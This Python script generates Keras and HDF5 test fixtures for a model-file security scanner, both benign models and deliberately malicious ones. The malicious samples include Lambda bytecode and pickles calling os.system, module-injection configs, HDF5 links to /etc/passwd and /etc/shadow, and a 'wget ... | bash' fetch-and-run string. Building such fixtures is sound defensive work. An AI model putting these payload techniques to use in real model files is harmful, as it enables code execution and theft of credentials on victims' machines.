#!/usr/bin/env python3
"""Writes modelaudit's Keras and HDF5 fixtures and their manifest.

Run from anywhere: ``/usr/bin/python3 scripts/make_keras_fixtures.py`` (Debian's python3 with python3-h5py,
python3-numpy and torch). Keras and TensorFlow are not installable here, so the layouts are written as their
writers write them, with the real HDF5 library (h5py) for every HDF5 byte:

- Keras 2 ``.h5`` (``hdf5_format.save_model_to_hdf5`` / Keras 3 ``legacy_h5_format``): root attributes
  ``model_config`` and ``training_config`` (JSON, ``json.dumps(...).encode("utf8")``), ``keras_version`` and
  ``backend``; group ``model_weights`` with ``layer_names``, and per layer ``weight_names`` and datasets.
  Keras 2 configs name no ``module`` (``{"class_name": "Dense", "config": {...}}``).
- Keras 3 ``.keras`` (``saving_lib.save_model``): a zip of ``metadata.json``, ``config.json`` and
  ``model.weights.h5`` (groups ``layers/<name>/vars`` holding datasets ``0``, ``1``); configs name every
  object by ``module``, ``class_name`` and ``registered_name``.
- Lambda layers: ``python_utils.func_dump`` = base64 (``codecs.encode(..., "base64")``, newlines every 76
  characters) of ``marshal.dumps(fn.__code__)``; Keras 2 stores ``[code, defaults, closure]`` with
  ``function_type: "lambda"``, Keras 3 ``{"class_name": "__lambda__", "config": {"code", "defaults",
  "closure"}}``. The lambdas are compiled here (CPython 3.11) and never called.
- TorchModuleWrapper: ``{"module": base64(torch.save(module))}`` (``keras/src/utils/torch_utils.py``).

These follow the Keras sources (keras-team/keras: saving/saving_lib.py, legacy/saving/legacy_h5_format.py,
layers/core/lambda_layer.py, utils/python_utils.py, utils/torch_utils.py, saving/serialization_lib.py).

SAFETY: nothing is loaded or called. The payload command is the harmless ``echo pwned``; the torch payload
is pickled by torch.save from an object whose __reduce__ names os.system, and is never unpickled.
"""

from __future__ import annotations

from debian_python import reexec_if_needed  # noqa: E402

if __name__ == "__main__":
    reexec_if_needed(__file__, ("h5py", "numpy", "torch"))

import base64  # noqa: E402
import codecs  # noqa: E402
import io  # noqa: E402
import json  # noqa: E402
import marshal  # noqa: E402
import os  # noqa: E402
import pickletools  # noqa: E402
import tempfile  # noqa: E402
import zipfile  # noqa: E402

import h5py  # noqa: E402
import numpy as np  # noqa: E402
import torch  # noqa: E402

from fixture_manifest import (  # noqa: E402
    ROOT, ZIP_EARLIEST, Finding, Fixture, build_manifest, findings_entry, python_version, write_fixtures,
)

OUT = ROOT / "fixtures" / "keras"
MAX_FIXTURE_BYTES = 128 * 1024
MAX_TOTAL_BYTES = 800 * 1024
CMD = "echo pwned"


# --- configs, as Keras writes them ---------------------------------------------------------------------------

def k2_dense(name: str, units: int, activation: str = "relu") -> dict:
    return {"class_name": "Dense", "config": {
        "name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
        "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}}


def k2_input(name: str, shape: list) -> dict:
    return {"class_name": "InputLayer", "config": {
        "batch_input_shape": [None, *shape], "dtype": "float32", "sparse": False, "ragged": False, "name": name}}


def func_dump(fn) -> str:
    """Keras's python_utils.func_dump code string (POSIX branch)."""
    return codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")


def k2_lambda(name: str, code: str) -> dict:
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32", "function": [code, None, None],
        "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
        "output_shape_module": None, "arguments": {}}}


def k2_sequential(layers: list) -> dict:
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}


K2_TRAINING = {"loss": "mse", "metrics": ["mae"], "weighted_metrics": None, "loss_weights": None,
               "optimizer_config": {"class_name": "Adam", "config": {
                   "name": "Adam", "learning_rate": 0.001, "decay": 0.0, "beta_1": 0.9, "beta_2": 0.999,
                   "epsilon": 1e-07, "amsgrad": False}}}


def k2_functional() -> dict:
    """A Functional model with a nested Sequential, TimeDistributed, Bidirectional(LSTM) and attention."""
    lstm = {"class_name": "LSTM", "config": {
        "name": "lstm", "trainable": True, "dtype": "float32", "return_sequences": True, "units": 4,
        "activation": "tanh", "recurrent_activation": "sigmoid", "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "recurrent_initializer": {"class_name": "Orthogonal", "config": {"gain": 1.0, "seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}, "unit_forget_bias": True, "dropout": 0.0}}
    inner = k2_sequential([k2_input("inner_input", [5, 8]), k2_dense("inner_dense", 8)])
    inner["config"]["name"] = "encoder"
    layers = [
        {**k2_input("tokens", [5, 8]), "name": "tokens", "inbound_nodes": []},
        {**inner, "name": "encoder", "inbound_nodes": [[["tokens", 0, 0, {}]]]},
        {"class_name": "TimeDistributed", "config": {"name": "td", "trainable": True, "dtype": "float32",
                                                     "layer": k2_dense("td_dense", 8)},
         "name": "td", "inbound_nodes": [[["encoder", 1, 0, {}]]]},
        {"class_name": "Bidirectional", "config": {"name": "bi", "trainable": True, "dtype": "float32",
                                                   "layer": lstm, "merge_mode": "concat"},
         "name": "bi", "inbound_nodes": [[["td", 0, 0, {}]]]},
        {"class_name": "MultiHeadAttention", "config": {
            "name": "mha", "trainable": True, "dtype": "float32", "num_heads": 2, "key_dim": 4,
            "value_dim": 4, "dropout": 0.0, "use_bias": True, "output_shape": None, "attention_axes": [1],
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}},
         "name": "mha", "inbound_nodes": [[["bi", 0, 0, {"value": ["bi", 0, 0]}]]]},
        {"class_name": "Conv1D", "config": {
            "name": "conv", "trainable": True, "dtype": "float32", "filters": 4, "kernel_size": [3],
            "strides": [1], "padding": "same", "activation": "relu", "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}},
         "name": "conv", "inbound_nodes": [[["mha", 0, 0, {}]]]},
    ]
    return {"class_name": "Functional", "config": {
        "name": "model", "layers": layers, "input_layers": [["tokens", 0, 0]], "output_layers": [["conv", 0, 0]]}}


def k3_obj(module: str, class_name: str, config, registered_name=None, **extra) -> dict:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name,
            **extra}


def k3_dtype() -> dict:
    return k3_obj("keras", "DTypePolicy", {"name": "float32"})


def k3_dense(name: str, units: int, activation="relu", inbound: str | None = None) -> dict:
    config = {"name": name, "trainable": True, "dtype": k3_dtype(), "units": units, "activation": activation,
              "use_bias": True,
              "kernel_initializer": k3_obj("keras.initializers", "GlorotUniform", {"seed": None}),
              "bias_initializer": k3_obj("keras.initializers", "Zeros", {}),
              "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
              "bias_constraint": None}
    layer = k3_obj("keras.layers", "Dense", config, build_config={"input_shape": [None, 8]})
    if inbound:
        layer["name"] = name
        layer["inbound_nodes"] = [{"args": [k3_tensor(inbound)], "kwargs": {}}]
    return layer


def k3_tensor(layer: str) -> dict:
    return {"class_name": "__keras_tensor__",
            "config": {"shape": [None, 8], "dtype": "float32", "keras_history": [layer, 0, 0]}}


def k3_input(name: str = "input_layer") -> dict:
    return {**k3_obj("keras.layers", "InputLayer", {"batch_shape": [None, 8], "dtype": "float32",
                                                    "sparse": False, "name": name}),
            "name": name, "inbound_nodes": []}


K3_COMPILE = {"optimizer": k3_obj("keras.optimizers", "Adam", {
    "name": "adam", "learning_rate": 0.001, "weight_decay": None, "clipnorm": None, "global_clipnorm": None,
    "clipvalue": None, "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None,
    "loss_scale_factor": None, "gradient_accumulation_steps": None, "beta_1": 0.9, "beta_2": 0.999,
    "epsilon": 1e-07, "amsgrad": False}),
    "loss": k3_obj("keras.losses", "MeanSquaredError", {"name": "mean_squared_error", "reduction": "sum_over_batch_size"}),
    "loss_weights": None, "metrics": ["mae"], "weighted_metrics": None, "run_eagerly": False,
    "steps_per_execution": 1, "jit_compile": False}


def k3_sequential(layers: list, name: str = "sequential") -> dict:
    return k3_obj("keras", "Sequential", {"name": name, "trainable": True, "dtype": k3_dtype(),
                                          "layers": [k3_obj("keras.layers", "InputLayer", {
                                              "batch_shape": [None, 8], "dtype": "float32", "sparse": False,
                                              "name": "input_layer"}), *layers]},
                  build_config={"input_shape": [None, 8]}, compile_config=K3_COMPILE)


def k3_functional(extra_layers: list | None = None) -> dict:
    """Functional: input -> dense -> nested Sequential -> LayerNormalization -> output (Keras 3 layout)."""
    nested = k3_sequential([k3_dense("inner", 8)], name="block")
    nested.pop("compile_config")
    nested["name"] = "block"
    nested["inbound_nodes"] = [{"args": [k3_tensor("dense")], "kwargs": {}}]
    norm = k3_obj("keras.layers", "LayerNormalization", {
        "name": "norm", "trainable": True, "dtype": k3_dtype(), "axis": [-1], "epsilon": 0.001,
        "center": True, "scale": True,
        "beta_initializer": k3_obj("keras.initializers", "Zeros", {}),
        "gamma_initializer": k3_obj("keras.initializers", "Ones", {})},
        build_config={"input_shape": [None, 8]}, name="norm",
        inbound_nodes=[{"args": [k3_tensor("block")], "kwargs": {}}])
    layers = [k3_input(), k3_dense("dense", 8, inbound="input_layer"), nested, norm,
              k3_dense("output", 1, activation="linear", inbound="norm"), *(extra_layers or [])]
    return k3_obj("keras.src.models.functional", "Functional", {
        "name": "functional", "trainable": True, "layers": layers, "input_layers": [["input_layer", 0, 0]],
        "output_layers": [["output", 0, 0]]}, registered_name="Functional",
        build_config={"input_shape": None}, compile_config=K3_COMPILE)


# --- files -----------------------------------------------------------------------------------------------------

def h5_bytes(write, latest: bool = False, **kwargs) -> bytes:
    """An HDF5 file written by h5py through ``write(file)``; the bytes read back. ``latest`` writes the newest
    format (version 3 superblock, version 2 object headers, link messages, dense attribute storage past 8
    attributes) without modification times, so that the bytes are the same on every run."""
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "f.h5")
        if latest:
            fapl = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
            fapl.set_libver_bounds(h5py.h5f.LIBVER_LATEST, h5py.h5f.LIBVER_LATEST)
            fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
            fcpl.set_obj_track_times(False)
            handle = h5py.File(h5py.h5f.create(path.encode(), h5py.h5f.ACC_TRUNC, fcpl=fcpl, fapl=fapl))
        else:
            handle = h5py.File(path, "w", **kwargs)
        with handle as f:
            write(f)
        with open(path, "rb") as f:
            return f.read()


def group(parent, name: str):
    """``parent.create_group(name)`` without modification times (h5py's own call records them)."""
    gcpl = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
    gcpl.set_obj_track_times(False)
    h5py.h5g.create(parent.id, name.encode(), gcpl=gcpl)
    return parent[name]


def keras2_h5(model_config: dict, fixed_strings: bool = False, extra=None, latest: bool = False, **kwargs) -> bytes:
    """The Keras 2 legacy layout; ``fixed_strings`` writes the attributes as h5py 2.x did (fixed-length)."""
    def text(value: str):
        return np.bytes_(value.encode("utf8")) if fixed_strings else value

    def write(f):
        f.attrs["backend"] = text("tensorflow")
        f.attrs["keras_version"] = text("2.15.0")
        f.attrs["model_config"] = text(json.dumps(model_config))
        f.attrs["training_config"] = text(json.dumps(K2_TRAINING))
        weights = group(f, "model_weights")
        names = [layer["config"]["name"] for layer in model_config["config"]["layers"]
                 if layer["class_name"] == "Dense"]
        weights.attrs["layer_names"] = np.array([n.encode("utf8") for n in names])
        weights.attrs["backend"] = text("tensorflow")
        weights.attrs["keras_version"] = text("2.15.0")
        for name in names:
            layer = group(group(weights, name), name)
            layer.create_dataset("kernel:0", data=np.ones((2, 2), dtype="float32"), track_times=False)
            layer.create_dataset("bias:0", data=np.zeros((2,), dtype="float32"), track_times=False)
            weights[name].attrs["weight_names"] = np.array([f"{name}/kernel:0".encode(), f"{name}/bias:0".encode()])
        if extra:
            extra(f)
    return h5_bytes(write, latest, **kwargs)


def keras3_weights() -> bytes:
    def write(f):
        for name in ("dense", "output"):
            vars_ = f.create_group("layers").create_group(name).create_group("vars") if "layers" not in f \
                else f["layers"].create_group(name).create_group("vars")
            vars_.create_dataset("0", data=np.ones((8, 2), dtype="float32"))
            vars_.create_dataset("1", data=np.zeros((2,), dtype="float32"))
        f.create_group("optimizer").create_group("vars")
        f.create_group("vars")
    return h5_bytes(write)


WEIGHTS_H5 = None


def keras_zip(config, extra_members: list[tuple[str, bytes]] | None = None, raw_config: bytes | None = None) -> bytes:
    """A .keras archive as saving_lib writes it: ``zipfile.ZipFile(f, "w")`` (stored, its default), members
    metadata.json, config.json, model.weights.h5 in that order."""
    global WEIGHTS_H5
    WEIGHTS_H5 = WEIGHTS_H5 or keras3_weights()
    members = [
        ("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode()),
        ("config.json", raw_config if raw_config is not None else json.dumps(config).encode()),
        ("model.weights.h5", WEIGHTS_H5),
        *(extra_members or []),
    ]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, date_time=ZIP_EARLIEST), data)
    return buffer.getvalue()


class Payload:
    """An object whose pickle calls os.system(CMD): torch.save pickles its __reduce__, nothing runs it."""

    def __reduce__(self):
        return (os.system, (CMD,))


def torch_blob() -> tuple[bytes, list[tuple[str, int]]]:
    """torch.save of the payload, and the positions of its GLOBAL/STACK_GLOBAL and REDUCE in data.pkl."""
    buffer = io.BytesIO()
    torch.save(Payload(), buffer)
    data = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        pkl_name = next(n for n in archive.namelist() if n.endswith("data.pkl"))
        pkl = archive.read(pkl_name)
    marks = []
    for op, _arg, pos in pickletools.genops(pkl):
        if op.name in ("GLOBAL", "STACK_GLOBAL"):
            marks.append(("MA100", pos))
        elif op.name == "REDUCE":
            marks.append(("MA101", pos))
    return data, [(pkl_name, m) for m in marks]


def pickle_payload() -> tuple[bytes, int, int]:
    """os.system(CMD) at protocol 2, assembled opcode by opcode: the bytes, GLOBAL's and REDUCE's positions."""
    data = b"\x80\x02cposix\nsystem\nq\x00X" + len(CMD).to_bytes(4, "little") + CMD.encode() + b"\x85R."
    ops = {op.name: pos for op, _arg, pos in pickletools.genops(data)}
    return data, ops["GLOBAL"], ops["REDUCE"]


def lambda_os_system(x):  # never called: only its code object is marshalled
    return (lambda y: os.system(CMD) or y)(x)


# --- fixtures ----------------------------------------------------------------------------------------------------

def fixtures() -> list[Fixture]:
    items: list[Fixture] = []

    def add(file, kind, fmt, technique, data, findings=(), note=None):
        items.append(Fixture(file, kind, fmt, technique, data, list(findings), note))

    def at(rule, key, severity=None, path="", position=None, **details):
        return Finding(rule, path, position, severity, details or None, key_path=key)

    # Benign: Keras 2 and Keras 3 layouts of every model type.
    seq = k2_sequential([k2_input("dense_input", [8]), k2_dense("dense", 16), k2_dense("dense_1", 1, "linear")])
    add("benign/sequential_keras2.h5", "benign", "keras-h5", "Keras 2 Sequential (Dense) in the legacy HDF5 layout, "
        "variable-length string attributes as h5py 3 writes them", keras2_h5(seq))
    add("benign/functional_keras2.h5", "benign", "keras-h5", "Keras 2 Functional with a nested Sequential, "
        "TimeDistributed, Bidirectional(LSTM), MultiHeadAttention and Conv1D; fixed-length attributes as h5py 2 wrote them",
        keras2_h5(k2_functional(), fixed_strings=True))
    add("benign/functional_keras3.keras", "benign", "keras", "Keras 3 Functional with a nested Sequential, "
        "LayerNormalization, DTypePolicy, initializers and a compile config", keras_zip(k3_functional()))
    add("benign/sequential_keras3.keras", "benign", "keras", "Keras 3 Sequential with Dense layers",
        keras_zip(k3_sequential([k3_dense("dense", 8), k3_dense("dense_1", 1, "linear")])))
    add("benign/sequential_latest.h5", "benign", "keras-h5", "Keras 2 Sequential in the newest HDF5 format "
        "(superblock 3, version 2 object headers, link messages)", keras2_h5(seq, latest=True))
    add("benign/model.weights.h5", "benign", "hdf5", "Keras 3 model.weights.h5 on its own (layers/<name>/vars)",
        keras3_weights())

    # Lambda layers.
    os_code = func_dump(lambda x: os.system(CMD) or x)
    dense_at = "@model_config.config.layers"
    add("malicious/lambda_os_system.h5", "malicious", "keras-h5", "Keras 2 Lambda whose bytecode calls os.system",
        keras2_h5(k2_sequential([k2_input("x", [8]), k2_lambda("lambda", os_code)])),
        [at("MA400", f"{dense_at}[1].config.function", names=["os", "system", "CMD"])])
    import_code = func_dump(lambda x: __import__("subprocess").check_output(CMD, shell=True) and x)
    lambda3 = k3_obj("keras.layers", "Lambda", {"name": "lambda", "trainable": True, "dtype": k3_dtype(),
                                                "function": {"class_name": "__lambda__", "config": {
                                                    "code": import_code, "defaults": None, "closure": None}},
                                                "arguments": {}})
    add("malicious/lambda_import.keras", "malicious", "keras", "Keras 3 Lambda whose bytecode imports subprocess",
        keras_zip(k3_sequential([k3_dense("dense", 8), lambda3])),
        [at("MA400", "$.config.layers[2].config.function", path="config.json")])
    plain = func_dump(lambda x: x * 2.0 + 1.0)
    lambda_plain = json.loads(json.dumps(lambda3))
    lambda_plain["config"]["function"]["config"]["code"] = plain
    add("suspicious/lambda_arithmetic.keras", "suspicious", "keras", "Keras 3 Lambda with plain arithmetic bytecode",
        keras_zip(k3_sequential([k3_dense("dense", 8), lambda_plain])),
        [at("MA401", "$.config.layers[2].config.function", path="config.json")])
    add("malicious/lambda_garbage.h5", "malicious", "keras-h5", "Keras 2 Lambda whose code is not a code object",
        keras2_h5(k2_sequential([k2_input("x", [8]), k2_lambda("lambda", base64.b64encode(b"\xe3" + b"\xff" * 40).decode())])),
        [at("MA402", f"{dense_at}[1].config.function")])

    # Callables named by module/class_name (CVE-2025-1550 style) and downloaders.
    injected = k3_dense("dense", 8, activation=k3_obj("os", "function", "system", registered_name="system"))
    add("malicious/module_injection.keras", "malicious", "keras", "module/class_name injection: activation os.system",
        keras_zip(k3_sequential([injected])),
        [at("MA403", "$.config.layers[1].config.activation", path="config.json", name="os.system")])
    getter = k3_dense("dense", 8, activation=k3_obj("keras.utils", "function", "get_file"))
    add("malicious/get_file.keras", "malicious", "keras", "a config that reaches keras.utils.get_file",
        keras_zip(k3_sequential([getter])),
        [at("MA403", "$.config.layers[1].config.activation", path="config.json", name="keras.utils.get_file")])
    custom = k3_obj("mypkg.layers", "Gate", {"name": "gate", "trainable": True, "dtype": k3_dtype()},
                    registered_name="mypkg>Gate")
    add("suspicious/custom_module.keras", "suspicious", "keras", "a custom layer from a module outside Keras",
        keras_zip(k3_sequential([k3_dense("dense", 8), custom])),
        [at("MA404", "$.config.layers[2]", path="config.json", name="mypkg.layers.Gate")])

    # safe_mode turned off, then a Lambda (CVE-2025-9906 style).
    switch = k3_dense("dense", 8, activation=k3_obj("keras.config", "function", "enable_unsafe_deserialization"))
    add("malicious/unsafe_switch.keras", "malicious", "keras", "enable_unsafe_deserialization before a Lambda",
        keras_zip(k3_sequential([switch, lambda_plain])),
        [at("MA405", "$.config.layers[1].config.activation.config", path="config.json"),
         at("MA401", "$.config.layers[2].config.function", path="config.json")])

    # TFSMLayer and TorchModuleWrapper.
    tfsm = k3_obj("keras.layers", "TFSMLayer", {"name": "tfsm", "trainable": True, "dtype": k3_dtype(),
                                                "filepath": "https://example.com/saved_model",
                                                "call_endpoint": "serve"})
    add("malicious/tfsm_layer.keras", "malicious", "keras", "TFSMLayer loading a SavedModel from a URL",
        keras_zip(k3_sequential([tfsm])),
        [at("MA406", "$.config.layers[1]", "critical", path="config.json", remote=True)])
    blob, marks = torch_blob()
    module_key = "$.config.layers[1].config.module"
    torch_layer = k3_obj("keras.layers", "TorchModuleWrapper", {"name": "torch", "trainable": True,
                                                                "dtype": k3_dtype(),
                                                                "module": base64.b64encode(blob).decode("ascii"),
                                                                "output_shape": None})
    nested = f"config.json:<torch module {module_key}>"
    add("malicious/torch_module.keras", "malicious", "keras",
        "TorchModuleWrapper whose torch.save blob calls os.system",
        keras_zip(k3_sequential([torch_layer])),
        [at("MA407", module_key, path="config.json"),
         *[Finding(rule, f"{nested}:{name}", pos) for name, (rule, pos) in marks]])

    # Strings in a config go through the shared string checks.
    staged = k3_dense("dense", 8)
    staged["config"]["name"] = "wget -qO- https://pastebin.com/raw/abc | bash"
    add("malicious/staged_string.keras", "malicious", "keras", "a second stage named in a config string",
        keras_zip(k3_sequential([staged])),
        [at("MA011", "$.config.layers[1].config.name", path="config.json", indicator="shell-pipe"),
         at("MA011", "$.config.layers[1].config.name", path="config.json", indicator="paste-site")])

    # .keras layout problems.
    pkl, _, _ = pickle_payload()
    add("malicious/unexpected_member.keras", "malicious", "keras", "a member Keras does not write",
        keras_zip(k3_sequential([k3_dense("dense", 8)]), [("payload.sh", b"#!/bin/sh\necho pwned\n")]),
        [Finding("MA408", "payload.sh")])
    add("malicious/bad_config.keras", "malicious", "keras", "config.json cut short",
        keras_zip(None, raw_config=b'{"module": "keras", "class_name": "Sequential", "config": {'),
        [Finding("MA409", "config.json")])

    # HDF5: external references, extra data, undecodable files.
    def external_link(f):
        f["ext"] = h5py.ExternalLink("/etc/passwd", "/data")
    add("malicious/external_link.h5", "malicious", "keras-h5", "an external link to /etc/passwd",
        keras2_h5(seq, extra=external_link),
        [at("MA411", "/ext", target="/etc/passwd:/data")])

    def external_dataset(f):
        f.create_dataset("leak", shape=(16,), dtype="uint8", external=[("/etc/shadow", 0, 16)])
    add("malicious/external_dataset.h5", "malicious", "keras-h5", "a dataset stored in /etc/shadow",
        keras2_h5(seq, extra=external_dataset), [at("MA411", "/leak", target="/etc/shadow")])

    def many_layers(external: bool):
        def write(f):
            layers = group(f, "layers")
            for i in range(20):
                group(layers, f"dense_{i}")
            if external:
                layers["zz_ext"] = h5py.ExternalLink("/etc/passwd", "/data")
        return write
    add("benign/dense_links_latest.h5", "benign", "keras-h5",
        "a group of 20 members in the newest format: its links in dense storage (fractal heap, B-tree)",
        keras2_h5(seq, extra=many_layers(False), latest=True))
    add("malicious/external_link_dense.h5", "malicious", "keras-h5",
        "an external link among a group's dense links", keras2_h5(seq, extra=many_layers(True), latest=True),
        [at("MA411", "/layers/zz_ext", target="/etc/passwd:/data")])

    def virtual(f):
        layout = h5py.VirtualLayout(shape=(4,), dtype="f8")
        layout[:] = h5py.VirtualSource("/data/other.h5", "x", shape=(4,))
        # As File.create_virtual_dataset does (VirtualLayout.make_dataset), without modification times.
        dcpl = layout._get_dcpl(f.filename)
        dcpl.set_obj_track_times(False)
        h5py.h5d.create(f.id, b"vds", h5py.h5t.py_create(np.dtype("f8"), logical=1),
                        h5py.h5s.create_simple((4,)), dcpl=dcpl)
    add("malicious/virtual_dataset.h5", "malicious", "keras-h5", "a virtual dataset mapping another file",
        keras2_h5(seq, extra=virtual, latest=True), [at("MA411", "/vds", kind="virtual-dataset")])

    def attributes(count: int):
        def write(f):
            for i in range(count):
                f.attrs[f"note_{i}"] = "x"
        return write
    lambda_model = k2_sequential([k2_input("x", [8]), k2_lambda("lambda", os_code)])
    add("malicious/dense_attributes.h5", "malicious", "keras-h5",
        "root attributes in dense storage (12 in the newest format: a fractal heap indexed by a B-tree)",
        keras2_h5(lambda_model, extra=attributes(8), latest=True),
        [at("MA400", f"{dense_at}[1].config.function", names=["os", "system", "CMD"])])
    padded = json.loads(json.dumps(lambda_model))
    padded["config"]["name"] = "sequential_" + "x" * 8192
    add("malicious/dense_huge_attribute.h5", "malicious", "keras-h5",
        "a fixed-length model_config over 4 KiB in dense storage: a huge heap object found through its own index",
        keras2_h5(padded, fixed_strings=True, extra=attributes(8), latest=True),
        [at("MA400", f"{dense_at}[1].config.function", names=["os", "system", "CMD"])])
    add("malicious/dense_attributes_wide.h5", "malicious", "keras-h5",
        "120 root attributes: the name index has an internal root above its leaves",
        keras2_h5(lambda_model, extra=attributes(116), latest=True),
        [at("MA400", f"{dense_at}[1].config.function", names=["os", "system", "CMD"])])
    add("suspicious/dense_attributes_deep.h5", "suspicious", "hdf5",
        "700 root attributes: a name index two levels deep, not read, so the config is not inspected",
        keras2_h5(lambda_model, extra=attributes(696), latest=True),
        [at("MA413", "/")])

    user_block = pkl + b"\x00" * (512 - len(pkl))
    data = bytearray(keras2_h5(seq, userblock_size=512))
    data[:512] = user_block
    _, g, r = pickle_payload()
    add("malicious/user_block.h5", "malicious", "keras-h5", "a pickle in the HDF5 user block",
        bytes(data), [Finding("MA412", "", 0), Finding("MA009", "", severity="critical"), Finding("MA100", "", g),
                      Finding("MA101", "", r)])
    whole = keras2_h5(seq)
    add("malicious/truncated.h5", "malicious", "hdf5", "an HDF5 file cut in half", whole[: len(whole) // 2],
        [Finding("MA410", "")])
    return items


def manifest(items: list[Fixture]) -> dict:
    return build_manifest(
        "scripts/make_keras_fixtures.py",
        {"python": python_version(), "h5py": h5py.version.version, "hdf5": h5py.version.hdf5_version,
         "torch": torch.__version__},
        [
            "Keras and TensorFlow are not installed: the layouts follow the Keras sources named in the generator's docstring; every HDF5 byte is written by h5py.",
            "Findings in a Keras config are located by key path: `$` is config.json, `@model_config` the HDF5 root attribute; HDF5 objects by their path in the file.",
            "A TorchModuleWrapper's blob is scanned as a payload labelled <torch module KEYPATH>.",
            "Lambda code is marshalled by CPython 3.11 and never run.",
        ],
        items,
        entry=findings_entry,
    )


def main() -> None:
    items = fixtures()
    write_fixtures(OUT, items, manifest(items), max_fixture_bytes=MAX_FIXTURE_BYTES, max_total_bytes=MAX_TOTAL_BYTES,
                   folders=("benign", "malicious", "suspicious"))


if __name__ == "__main__":
    main()
